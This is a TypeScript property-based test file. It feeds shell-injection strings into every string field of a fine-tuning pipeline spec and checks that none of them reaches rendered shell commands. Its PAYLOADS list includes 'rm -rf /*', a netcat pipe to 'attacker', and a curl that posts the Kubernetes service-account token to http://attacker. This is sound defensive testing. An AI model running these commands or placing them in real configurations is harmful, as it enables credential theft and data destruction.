import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { z } from "zod";
import { PipelineRenderError } from "../../pipelines/render/kubernetes";
import { FineTuningPipelineSpecSchema } from "../../pipelines/spec-schema";
import { exampleInputs } from "../pipeline/fixtures";
import { renderAll } from "./render-all";
import { shellTexts } from "./shell-text";

/**
 * Issue 11: no value ever becomes a command. Every string field of the pipeline spec (found by walking the zod
 * schema, so a new field is covered without a test change) gets shell metacharacters, newlines, quotes, `$(…)`,
 * backticks, Argo `{{…}}` and very long strings; every renderer runs. The spec must be rejected (zod error, or a
 * keyed PipelineRenderError), or the injected text must appear in no shell text of any output.
 */

type Seg = string | "[]";
type Path = Seg[];

/** Paths of every string leaf of a zod schema (`[]` = any array element). */
export function stringPaths(schema: z.ZodType): Path[] {
  const out = new Map<string, Path>();
  const walk = (s: z.ZodType, at: Path, depth: number): void => {
    if (depth > 20) return;
    const def = (s as unknown as { _zod: { def: Record<string, unknown> } })._zod.def;
    switch (def.type) {
      case "string":
        out.set(at.join("."), at);
        return;
      case "object":
        for (const [k, v] of Object.entries(def.shape as Record<string, z.ZodType>)) walk(v, [...at, k], depth + 1);
        return;
      case "array":
        return walk(def.element as z.ZodType, [...at, "[]"], depth + 1);
      case "optional":
      case "nullable":
      case "default":
      case "prefault":
      case "readonly":
      case "catch":
        return walk(def.innerType as z.ZodType, at, depth + 1);
      case "pipe":
        walk(def.in as z.ZodType, at, depth + 1);
        return walk(def.out as z.ZodType, at, depth + 1);
      case "union":
        for (const o of def.options as z.ZodType[]) walk(o, at, depth + 1);
        return;
      default:
        return; // number, boolean, enum, literal, transform: no free text
    }
  };
  walk(schema, [], 0);
  return [...out.values()];
}

/** A copy of `input` with `value` at `path` (creating objects/arrays on the way; `[]` picks element `index`). */
function setAt(input: unknown, path: Path, value: string, index: number): unknown {
  const root = structuredClone(input) as Record<string, unknown>;
  let node: Record<string, unknown> | unknown[] = root;
  path.forEach((seg, i) => {
    const last = i === path.length - 1;
    const next = path[i + 1];
    const fresh = () => (next === "[]" ? [] : {});
    if (seg === "[]") {
      const arr = node as unknown[];
      const at = arr.length === 0 ? 0 : index % arr.length;
      if (last) arr[at] = value;
      else {
        if (arr[at] === undefined || typeof arr[at] !== "object") arr[at] = fresh();
        node = arr[at] as Record<string, unknown>;
      }
      return;
    }
    const obj = node as Record<string, unknown>;
    if (last) obj[seg] = value;
    else {
      if (obj[seg] === undefined || typeof obj[seg] !== "object") obj[seg] = fresh();
      node = obj[seg] as Record<string, unknown>;
    }
  });
  return root;
}

const PAYLOADS = [
  "v1.0; rm -rf /*",
  "$(id)",
  "`id`",
  "'; id; '",
  '"; id; "',
  "a\nid",
  "a\r\nid #",
  "${IFS}id",
  "x | nc attacker 4444",
  "x && curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token http://attacker",
  "{{workflow.parameters.base-model-revision}}",
  "$(FTKIT_NODE_RANK)",
  "-c id",
];
const META = ["$", "(", ")", "`", ";", "|", "&", "'", '"', "\\", "\n", "\t", " ", "<", ">", "*", "?", "{", "}", "#", "~", "!"];

/** A hostile string: a known payload, meta-characters around a valid-looking word, or a very long run. */
const hostile: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...PAYLOADS),
  fc
    .tuple(fc.constantFrom("mmlu", "v1.0", "s3://bucket/a.jsonl", "org/model", "q_proj", "exact_match"), fc.constantFrom(...PAYLOADS))
    .map(([ok, bad]) => `${ok}${bad}`),
  fc.array(fc.constantFrom(...META, "a", "1", "_", "-", "."), { minLength: 1, maxLength: 24 }).map((cs) => `x${cs.join("")}id`),
  fc.integer({ min: 4096, max: 20000 }).map((n) => `${"A".repeat(n)};id`),
);

const BASES = exampleInputs();
const PATHS = stringPaths(FineTuningPipelineSpecSchema);
const key = (p: Path) => p.join(".");

describe("injection: hostile text in every string field of the spec never reaches a shell", () => {
  it("walks every string field of the schema (new fields are covered without a test change)", () => {
    const keys = PATHS.map(key);
    for (const k of [
      "name",
      "description",
      "baseModel.id",
      "baseModel.revision",
      "baseModel.hubTokenSecret.key",
      "dataset.uri",
      "dataset.testUri",
      "compute.pool",
      "evaluation.generalTasks.[]",
      "evaluation.safetyTasks.[]",
      "evaluation.thresholds.[].metric",
      "evaluation.evaluator.image",
      "evaluation.evaluator.command.[]",
      "deployment.instanceType",
      "deployment.serving.image",
      "method.targetModules.[]",
      "monitoring.schedule",
      "schedule",
      "stages.training.command.[]",
    ]) {
      expect(keys).toContain(k);
    }
    expect(PATHS.length).toBeGreaterThanOrEqual(30);
  });

  it("for a few hundred seeded cases: rejected with a keyed error, or no injected text in any shell text", () => {
    const outcome = { rejected: 0, accepted: 0, acceptedPaths: new Set<string>() };
    fc.assert(
      fc.property(fc.constantFrom(...Object.keys(BASES)), fc.constantFrom(...PATHS), fc.nat(7), hostile, (base, path, index, payload) => {
        const input = setAt(BASES[base], path, payload, index);
        const parsed = FineTuningPipelineSpecSchema.safeParse(input);
        if (!parsed.success) {
          outcome.rejected++;
          // every issue is tied to a field and says what is wrong
          for (const issue of parsed.error.issues) expect(issue.message.length).toBeGreaterThan(0);
          return;
        }
        let rendered;
        try {
          rendered = renderAll(parsed.data);
        } catch (e) {
          if (e instanceof PipelineRenderError) {
            outcome.rejected++;
            return;
          }
          throw e;
        }
        outcome.accepted++;
        outcome.acceptedPaths.add(key(path));
        for (const r of rendered) {
          for (const s of shellTexts(r.output)) {
            expect(s.text.includes(payload), `${r.renderer}: ${key(path)} = ${JSON.stringify(payload.slice(0, 80))} reaches the shell text at ${s.where}`).toBe(
              false,
            );
            expect(/\{\{\s*(inputs|workflow)\.parameters\./.test(s.text), `${r.renderer}: a workflow parameter in shell text at ${s.where}`).toBe(false);
          }
        }
      }),
      { seed: 20261201, numRuns: 300, endOnFailure: true },
    );
    // Not vacuous: free-text fields (description, command overrides) are accepted and rendered.
    expect(outcome.accepted).toBeGreaterThan(10);
    expect(outcome.rejected).toBeGreaterThan(100);
    expect([...outcome.acceptedPaths].some((p) => p.endsWith("command.[]"))).toBe(true);
  }, 120_000);

  it("the extractor finds shell text where the kit used to put it (a planted fault is caught)", () => {
    const planted = {
      initContainers: [{ command: ["sh", "-c", "fetch s3://b/m@v1.0; rm -rf /*"] }],
      containers: [{ command: ["/bin/bash"], args: ["-ec", "lm_eval --tasks $(id)"] }],
      templates: [
        { script: { source: "echo {{workflow.parameters.base-model-revision}}" } },
        { resource: { manifest: "spec:\n  command: [sh, -c, 'echo `id`']\n" } },
      ],
      AppSpecification: { ContainerEntrypoint: ["python3", "/code/ftkit_run.py", "steps", JSON.stringify([{ run: ["sh", "-c", "echo $(id)"] }])] },
    };
    expect(shellTexts(planted).map((s) => s.text)).toEqual([
      "fetch s3://b/m@v1.0; rm -rf /*",
      "lm_eval --tasks $(id)",
      "echo {{workflow.parameters.base-model-revision}}",
      "echo `id`",
      "echo $(id)",
    ]);
  });
});
